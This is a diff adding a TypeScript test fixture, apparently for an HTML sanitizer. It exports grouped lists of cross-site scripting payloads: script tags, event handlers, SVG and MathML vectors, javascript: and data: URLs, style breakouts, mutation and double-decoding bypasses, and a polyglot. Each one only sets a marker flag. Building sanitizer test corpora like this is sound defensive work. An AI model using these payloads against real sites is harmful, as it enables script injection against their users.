@@ -1,0 +1,137 @@
+/** Runs in every page that lets one of these through, and leaves a trace. */
+const run = 'window.__ran=1';
+const far = 'https://host.invalid';
+
+export const tags: readonly string[] = [
+  `<script>${run}</script>`,
+  `<ScRiPt>${run}</sCrIpT>`,
+  `<script src=${far}/x.js></script>`,
+  `<script type=module>${run}</script>`,
+  `<script\n>${run}</script\t>`,
+  `<script/x>${run}</script>`,
+  `<scr<script>ipt>${run}</scr</script>ipt>`,
+  `</script><script>${run}</script>`,
+  `<script>alert(1)//`,
+  `<<script>${run}//<</script>`,
+  `<iframe src="javascript:parent.${run}"></iframe>`,
+  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
+  `<object data="javascript:${run}"></object>`,
+  `<embed src="data:text/html,<script>${run}</script>">`,
+  `<base href="${far}/">`,
+  `<meta http-equiv="refresh" content="0;url=${far}/">`,
+  `<link rel=stylesheet href="${far}/x.css">`,
+  `<form action="${far}/"><button>gửi</button></form>`,
+  `<button formaction="javascript:${run}">gửi</button>`,
+  `<template shadowrootmode=open><script>${run}</script></template>`,
+  `<portal src="${far}/"></portal>`,
+  `<plaintext>`,
+  `<!--`,
+  `<![CDATA[`,
+  `<?php ${run} ?>`,
+];
+
+export const handlers: readonly string[] = [
+  `<img src=x onerror=${run}>`,
+  `<img src=x onerror="${run}"`,
+  `<img/src=x/onerror=${run}>`,
+  `<img src=x:x onerror\n=\n'${run}'>`,
+  `<img src="${far}/pixel.png">`,
+  `<img srcset="${far}/pixel.png 1x">`,
+  `<body onload=${run}>`,
+  `<input autofocus onfocus=${run}>`,
+  `<details open ontoggle=${run}>`,
+  `<video><source onerror=${run}></video>`,
+  `<audio src=x onerror=${run}>`,
+  `<marquee onstart=${run}>`,
+  `<p onmouseover=${run} class=quiet>rê chuột</p>`,
+  `<div style="animation-name:x" onanimationstart=${run}>`,
+  `<a href=# onclick=${run}>bấm</a>`,
+  `<select autofocus onfocus=${run}>`,
+  `<x onclick=${run} tabindex=1 autofocus onfocus=${run}>`,
+  `" onfocus=${run} autofocus x="`,
+  `' onfocus=${run} autofocus x='`,
+  `"><img src=x onerror=${run}>`,
+  `'><svg onload=${run}>`,
+  `\` onfocus=${run} autofocus x=\``,
+  `x onmouseover=${run}`,
+  `"/><script>${run}</script>`,
+];
+
+export const drawings: readonly string[] = [
+  `<svg onload=${run}>`,
+  `<svg><script>${run}</script></svg>`,
+  `<svg><script href="data:text/javascript,${run}"/></svg>`,
+  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
+  `<svg><a xlink:href="javascript:${run}"><text x=9 y=9>bấm</text></a></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}/>#x"/></svg>`,
+  `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
+  `<svg><style><img src=x onerror=${run}></style></svg>`,
+  `<math href="javascript:${run}">bấm</math>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
+  `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}>`,
+];
+
+export const addresses: readonly string[] = [
+  `javascript:${run}`,
+  `JaVaScRiPt:${run}`,
+  `java\tscript:${run}`,
+  `java\nscript:${run}`,
+  `\u0001javascript:${run}`,
+  ` javascript:${run}`,
+  `javascript://bao.example/%0a${run}`,
+  `javascript&colon;${run}`,
+  `vbscript:${run}`,
+  `data:text/html,<script>${run}</script>`,
+  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==`,
+  `blob:${far}/x`,
+  `https://bao.example/"onmouseover="${run}`,
+  `https://bao.example/'onmouseover='${run}`,
+  `https://bao.example/<script>${run}</script>`,
+  `https://bao.example/?q=javascript:${run}`,
+  `http://bao.example@host.invalid/`,
+  `//host.invalid/x`,
+  `[bấm](javascript:${run})`,
+  `<javascript:${run}>`,
+];
+
+export const styles: readonly string[] = [
+  `<style>*{display:none}</style>`,
+  `<style>@import "${far}/x.css";</style>`,
+  `<div style="position:fixed;inset:0;background:url(${far}/x)">`,
+  `<div style="width:expression(${run})">`,
+  `</style><script>${run}</script>`,
+  `</title><script>${run}</script>`,
+  `</textarea><script>${run}</script>`,
+  `</noscript><script>${run}</script>`,
+  `--></style></script><script>${run}</script>`,
+];
+
+/** Harmless as it is read, and not once it was read, written and read again. */
+export const twice: readonly string[] = [
+  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
+  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
+  `<math><mi><table><mi><a title="</mi><img src=x onerror=${run}>">`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
+  `&lt;script&gt;${run}&lt;/script&gt;`,
+  `&amp;lt;img src=x onerror=${run}&amp;gt;`,
+  `&#60;script&#62;${run}&#60;/script&#62;`,
+  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
+  `%3Cscript%3E${run}%3C/script%3E`,
+  `＜script＞${run}＜/script＞`,
+  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
+  `<s\u0301cript>${run}</script>`,
+  `<img src=x onerror\u2028=${run}>`,
+  `<\u0001script>${run}</script>`,
+  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(${run})//%0D%0A</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/oNloAd=${run}//>`,
+  `'"><svg/onload=${run}>{{constructor.constructor('${run}')()}}`,
+];
+
+/** Everything that would run, load or restyle something if text became markup anywhere. */
+export const scripts: readonly string[] = [
+  ...tags,
+  ...handlers,
+  ...drawings,
+  ...addresses,
+  ...styles,
+  ...twice,
+];
